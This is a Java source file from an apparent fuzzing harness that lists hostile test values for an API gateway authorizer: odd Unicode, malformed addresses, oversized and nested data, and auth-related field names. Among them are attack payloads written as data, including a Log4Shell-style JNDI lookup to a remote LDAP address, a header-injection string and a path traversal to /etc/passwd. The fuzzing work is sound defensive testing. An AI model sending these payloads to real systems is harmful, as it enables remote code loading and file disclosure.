package dev.weir.fuzzing;

import java.math.BigInteger;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** Values that have broken something somewhere before. */
public final class Hostile {

    /** Half a megabyte in all would be more than API Gateway lets through; a value is at most this long. */
    private static final int LONG = 10_000;

    /** Texts. */
    public static final List<String> TEXTS = List.of("", " ", "\t", ",", ",,", "null", "true", "0", "-1", "1e400",
            "NaN", "\0", "\u007f", "\u0085", "\r\n", "a\r\nX-Injected: 1", "\"", "\\", "\"}", "\\u0000", "'", "<b>",
            "%s%n", "%00", "${jndi:ldap://192.0.2.1/a}", "{{", "../../etc/passwd", "/", "//", "*", "/*", "arn:",
            "arn:a/b/c",
            "\ud800", "\udc00a", "\u212a", "\uff21\uff35\uff34\uff28", "\u0430lice", "\u0130", "\u202e", "\ufeff",
            "a\u0301", "\ud83d\ude00", "2.0", "1.0", "TOKEN", "REQUEST", "$connect", "$default", "ANY", "Bearer",
            "Bearer ", "bearer\ta", "Basic YTpi", "AWS4-HMAC-SHA256 Credential=", "weir-demo-alice", "..",
            "e30.e30.e30",
            "192.0.2.1", "192.0.2.1:1", "[::1]:80", "::", "::ffff:192.0.2.1", "fe80::1%eth0", "999.1.1.1",
            "1:2:3:4:5:6:7:8:9",
            "10.0.0.1, 192.0.2.9", "a".repeat(LONG), "a".repeat(255), "\u00e9".repeat(LONG / 2),
            "a" + " ".repeat(LONG) + "a",
            ",".repeat(LONG), "10.0.0.1,".repeat(LONG / 9), ".".repeat(LONG), ":".repeat(LONG), "0".repeat(LONG),
            "[".repeat(LONG), "{\"a\":".repeat(LONG / 5), "\ud800".repeat(LONG / 2), "/".repeat(LONG),
            "a/".repeat(LONG / 2));

    /** Names of fields. */
    public static final List<String> NAMES = List.of("", "type", "version", "methodArn", "routeArn", "httpMethod",
            "resource",
            "routeKey", "headers", "multiValueHeaders", "requestContext", "identity", "http", "sourceIp", "authorizer",
            "jwt", "claims", "iam", "userArn", "cognitoIdentity", "cognitoIdentityId", "amr", "identityId", "stage",
            "authorization", "AUTHORIZATION", "Author\u0131zation", "x-api-key", "x-forwarded-for", "idempotency-key",
            "x-stainless-retry-count", "authorizationToken", "alg", "kid", "crit", "b64", "typ", "jwk", "jku", "iss",
            "aud", "sub",
            "exp", "nbf", "\ud800", "\0", "a\r\nb", "body", "model", "input", "stream", "hold", "usage", "outcome",
            "seconds");

    private static final List<@Nullable Object> OTHERS = Collections.unmodifiableList(Arrays.<@Nullable Object>asList(
            null, true, false, 0,
            -1, Integer.MAX_VALUE, Long.MIN_VALUE, 1.5, 1e308, new BigInteger("9".repeat(400)), List.of(), Map.of(),
            Collections.singletonList(null), List.of(List.of()), List.of("a", "b"), List.of(1, "a"), nested(1_000),
            Collections.singletonMap("a", null), Map.of("a", Map.of("a", "b")), Map.of("", ""), tower(500)));

    private Hostile() {}

    /** Some value, of any kind; what is a map or a list is not to be changed. */
    public static @Nullable Object value(Choices choices) {
        var chosen = choices.below(TEXTS.size() + OTHERS.size());
        return chosen < TEXTS.size() ? TEXTS.get(chosen) : OTHERS.get(chosen - TEXTS.size());
    }

    private static Object nested(int depth) {
        Object inner = new ArrayList<>();
        for (int i = 0; i < depth; i++) {
            inner = new ArrayList<>(List.of(inner));
        }
        return inner;
    }

    private static Object tower(int depth) {
        Object inner = new HashMap<>();
        for (int i = 0; i < depth; i++) {
            inner = new HashMap<>(Map.of("a", inner));
        }
        return inner;
    }
}
